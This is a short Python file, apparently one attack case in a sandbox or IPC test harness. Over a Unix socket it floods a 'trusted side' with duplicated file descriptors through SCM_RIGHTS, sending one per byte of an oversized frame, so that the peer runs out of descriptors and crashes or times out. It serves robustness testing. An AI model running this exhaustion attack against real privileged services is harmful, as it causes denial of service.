"""Sends open descriptors to the trusted side, one per byte of a long frame, until that can open no more.

Ends: CRASHED or TIMEOUT
"""

import array
import os
import socket
import struct


def attack(facts):
    channel = socket.socket(fileno=os.dup(3))
    os.write(3, struct.pack(">I", 60_000))
    sent = 0
    while sent < 2000:
        try:
            sent += channel.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [0]))])
        except OSError:
            continue  # too many are under way
    os._exit(0)
